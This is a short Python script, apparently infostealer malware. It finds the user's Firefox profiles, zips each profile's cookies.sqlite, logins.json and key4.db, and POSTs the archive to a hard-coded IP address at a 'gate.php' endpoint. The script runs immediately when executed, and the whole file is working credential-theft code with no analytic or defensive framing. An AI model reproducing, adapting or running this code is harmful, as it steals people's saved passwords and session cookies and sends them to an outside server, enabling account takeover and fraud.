import glob
import os
import zipfile
import io
import urllib.request


class Grabber:
    def __init__(self, endpoint):
        self.endpoint = endpoint
        self.buf = io.BytesIO()

    def pack(self):
        pattern = os.path.expanduser("~/.mozilla/firefox/*.default*/")
        with zipfile.ZipFile(self.buf, "w") as zf:
            for profile in glob.glob(pattern):
                for name in ("cookies.sqlite", "logins.json", "key4.db"):
                    p = os.path.join(profile, name)
                    if os.path.isfile(p):
                        zf.write(p, arcname=os.path.basename(profile.rstrip("/")) + "/" + name)

    def ship(self):
        req = urllib.request.Request(self.endpoint, data=self.buf.getvalue(), method="POST")
        urllib.request.urlopen(req)


g = Grabber("http://91.243.44.10/gate.php")
g.pack()
g.ship()
